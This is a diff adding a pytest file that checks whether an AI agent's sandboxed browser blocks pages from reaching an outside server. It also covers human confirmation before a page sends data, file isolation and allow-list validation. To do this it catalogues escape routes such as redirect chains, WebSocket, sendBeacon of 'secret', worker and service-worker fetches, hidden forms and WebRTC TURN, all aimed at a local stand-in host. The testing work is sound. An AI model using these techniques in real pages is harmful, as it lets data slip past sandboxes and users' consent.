@@ -1,0 +1,208 @@
+"""Ways out of the agent's browser, each against a server that counts: in Chromium, with nothing mocked."""
+
+import http.server
+import socket
+import threading
+import time
+
+import pytest
+
+from vlnb import agent
+from vlnb.agent.actions import parse
+from vlnb.agent.browser import Browser
+from vlnb.errors import BadInput
+
+
+class Counter:
+    """A server that counts connections and answers each with a page."""
+
+    def __init__(self):
+        self.hits = 0
+        self.listener = socket.create_server(("127.0.0.1", 0))
+        self.port = self.listener.getsockname()[1]
+        threading.Thread(target=self.run, daemon=True).start()
+
+    def run(self):
+        while True:
+            try:
+                connection, _ = self.listener.accept()
+            except OSError:
+                return
+            self.hits += 1
+            with connection:
+                connection.settimeout(1)
+                try:
+                    connection.recv(10_000)
+                    head = "HTTP/1.1 200 OK\r\nAccess-Control-Allow-Origin: *\r\nContent-Type: text/html\r\n"
+                    connection.sendall(f"{head}Content-Length: 2\r\nConnection: close\r\n\r\nhi".encode())
+                except OSError:
+                    pass
+
+
+@pytest.fixture
+def outside():
+    counter = Counter()
+    yield counter
+    counter.listener.close()
+
+
+@pytest.fixture
+def site():
+    """A web server; `site.pages[path]` is HTML, or a dict with status, headers and body."""
+
+    class Handler(http.server.BaseHTTPRequestHandler):
+        def do_GET(self):
+            self.server.seen.append((self.command, self.path))
+            length = int(self.headers.get("Content-Length") or 0)
+            self.rfile.read(length)
+            page = self.server.pages.get(self.path.partition("?")[0], {"status": 404})
+            page = page if isinstance(page, dict) else {"body": page}
+            body = page.get("body", "").encode()
+            self.send_response(page.get("status", 200))
+            for name, value in {"Content-Type": "text/html; charset=utf-8", **page.get("headers", {})}.items():
+                self.send_header(name, value)
+            self.send_header("Content-Length", str(len(body)))
+            self.end_headers()
+            self.wfile.write(body)
+
+        do_POST = do_GET  # noqa: N815 - the name is http.server's
+
+        def log_message(self, *_):
+            pass
+
+    server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Handler)
+    server.daemon_threads = True
+    server.pages, server.seen = {}, []
+    server.address = f"http://127.0.0.1:{server.server_port}"
+    threading.Thread(target=server.serve_forever, args=(0.02,), daemon=True).start()
+    yield server
+    server.shutdown()
+    server.server_close()
+
+
+BUTTON = "<button onclick='go()' style='position:fixed;left:0;top:0;width:300px;height:100px'>Go</button>"
+# name: the page of the script (OUT is the address outside, WS the same for a WebSocket), pages beside it
+SCRIPT = {"Content-Type": "text/javascript"}
+ADD = "const e = document.createElement('{}'); {}; document.{}.append(e)"
+FORM = ADD.format("form", "e.action = 'OUT'; e.method = 'POST'", "body") + "; e.submit()"
+PRECONNECT = ADD.format("link", "e.rel = 'preconnect'; e.href = 'OUT'", "head")
+REFRESH = ADD.format("meta", "e.httpEquiv = 'refresh'; e.content = '0;url=OUT'", "head")
+NESTED = ADD.format("iframe", "e.src = `data:text/html,<iframe src=OUT></iframe>`", "body")
+WEBRTC = """const p = new RTCPeerConnection({iceServers: [
+    {urls: 'turn:127.0.0.1:PORT?transport=tcp', username: 'a', credential: 'b'}]});
+p.createDataChannel('x'); p.createOffer().then((offer) => p.setLocalDescription(offer))"""
+CHAIN = {
+    "/one": {"status": 302, "headers": {"Location": "/two"}},
+    "/two": {"status": 307, "headers": {"Location": "OUT"}},
+}
+WAYS = {
+    "redirect to another host": ("location = '/away'", {"/away": {"status": 302, "headers": {"Location": "HOST"}}}),
+    "redirect to another port": ("location = '/away'", {"/away": {"status": 302, "headers": {"Location": "OUT"}}}),
+    "redirect of a redirect": ("location = '/one'", CHAIN),
+    "redirect of a request": ("fetch('/away')", {"/away": {"status": 302, "headers": {"Location": "OUT"}}}),
+    "WebSocket": ("new WebSocket('WS')", {}),
+    "popup": ("window.open('OUT')", {}),
+    "popup through itself": ("window.open('/hop')", {"/hop": {"body": "<script>location = 'OUT'</script>"}}),
+    "form": (FORM, {}),
+    "iframe": (ADD.format("iframe", "e.src = 'OUT'", "body"), {}),
+    "frame in a data address": (NESTED, {}),
+    "beacon": ("navigator.sendBeacon('OUT', 'secret')", {}),
+    "worker": ("new Worker('/w.js')", {"/w.js": {"body": "fetch('OUT')", "headers": SCRIPT}}),
+    "WebSocket of a worker": ("new Worker('/w.js')", {"/w.js": {"body": "new WebSocket('WS')", "headers": SCRIPT}}),
+    "service worker": (
+        "navigator.serviceWorker.register('/w.js')",
+        {"/w.js": {"body": "fetch('OUT')", "headers": SCRIPT}},
+    ),
+    "download": (ADD.format("a", "e.href = 'OUT'; e.download = 'x'", "body") + "; e.click()", {}),
+    "picture": ("new Image().src = 'OUT'", {}),
+    "preconnect": (PRECONNECT, {}),
+    "refresh": (REFRESH, {}),
+    "WebRTC": (WEBRTC, {}),
+}
+LEAKS = ("redirect to another port", "popup", "form", "iframe", "worker", "picture")  # where they are allowed
+CLICK = parse('{"action": "left_click", "coordinate": [20, 20]}', (1024, 768)).actions[0]
+
+
+def written(text, outside):
+    named = {"OUT": "http://127.0.0.1:PORT/", "HOST": "http://localhost:PORT/", "WS": "ws://127.0.0.1:PORT/"}
+    for name, address in named.items():
+        text = text.replace(name, address)
+    return text.replace("PORT", str(outside.port))
+
+
+def tried(site, outside, way, **options):
+    script, pages = WAYS[way]
+    site.pages["/"] = written(f"<body>{BUTTON}<script>function go() {{ {script} }}</script>", outside)
+    for path, page in pages.items():
+        headers = {name: written(value, outside) for name, value in page.get("headers", {}).items()}
+        site.pages[path] = {**page, "headers": headers, "body": written(page.get("body", ""), outside)}
+    with Browser(f"{site.address}/", **options) as browser:
+        browser.confirm = lambda _: True  # a person who agrees to everything lets nothing out either
+        browser.act(CLICK, [(20, 20)])
+        time.sleep(0.6)
+        return browser.picture(browser.whole), browser
+
+
+@pytest.mark.parametrize("way", WAYS)
+def test_no_way_leads_out(site, outside, way):
+    tried(site, outside, way)
+    assert ("GET", "/") in site.seen
+    assert all(("GET", path) in site.seen for path in WAYS[way][1] if way != "service worker"), "the way was tried"
+    assert outside.hits == 0
+
+
+@pytest.mark.parametrize("way", LEAKS)
+def test_what_is_allowed_is_reached(site, outside, way):
+    """The same pages do reach the outside if it is allowed, so the counts of nothing above mean something."""
+    tried(site, outside, way, allow=[f"127.0.0.1:{outside.port}"])
+    assert outside.hits > 0
+
+
+def test_sending_data_needs_a_person(site):
+    site.pages["/"] = f"{BUTTON}<script>function go() {{ fetch('/save', {{method: 'POST', body: 'x'}}) }}</script>"
+    for agrees, seen in ((False, []), (True, [("POST", "/save")])):
+        site.seen.clear()
+        with Browser(f"{site.address}/") as browser:
+            browser.confirm = lambda _, agrees=agrees: agrees
+            browser.act(CLICK, [(20, 20)])
+            assert browser.asked == [f"The page wants to send data (POST). Allow it? {'yes' if agrees else 'no'}"]
+        assert [one for one in site.seen if one[0] == "POST"] == seen
+
+
+def test_redirects_and_cookies_work_inside(site):
+    site.pages |= {
+        "/": {"status": 302, "headers": {"Location": "/in?a=1#part", "Set-Cookie": "who=ada"}},
+        "/in": "<title>inside</title><img src=/pic><script>document.title += document.cookie + location.hash</script>",
+        "/pic": {"status": 301, "headers": {"Location": "/real"}},
+    }
+    with Browser(f"{site.address}/") as browser:
+        time.sleep(0.3)
+        assert browser.call(browser.page.title()) == "insidewho=ada#part"
+        assert browser.page.url == f"{site.address}/in?a=1#part"
+    assert ("GET", "/real") in site.seen
+
+
+def test_a_page_that_moves_away_is_told(site, outside):
+    _, browser = tried(site, outside, "redirect to another port")
+    (note,) = browser.notes
+    assert note == f"The page wanted to go to http://127.0.0.1:{outside.port}/, which is not allowed."
+
+
+def test_a_file_sees_no_other_file(tmp_path):
+    (tmp_path / "secret.html").write_text("<h1>secret</h1>")
+    (tmp_path / "page.html").write_text(f"<body>{BUTTON}<script>function go() {{ location = 'secret.html' }}</script>")
+    for allow in ((), [tmp_path.as_uri()]):
+        with Browser(tmp_path / "page.html", allow=allow) as browser:
+            browser.act(CLICK, [(20, 20)])
+            assert ("<h1>secret" in browser.call(browser.page.content())) == bool(allow)
+
+
+@pytest.mark.parametrize("allow", ["https://", "ftp://host", "http://host:99999", "about:blank://"])
+def test_what_cannot_be_allowed_is_said(allow):
+    with pytest.raises(BadInput, match="each must name a host"):
+        Browser("http://127.0.0.1/", allow=[allow])
+
+
+def test_a_page_that_does_not_open_is_a_sentence():
+    with pytest.raises(BadInput, match="does not open"):
+        agent.run(None, "http://127.0.0.1:9/", "look")
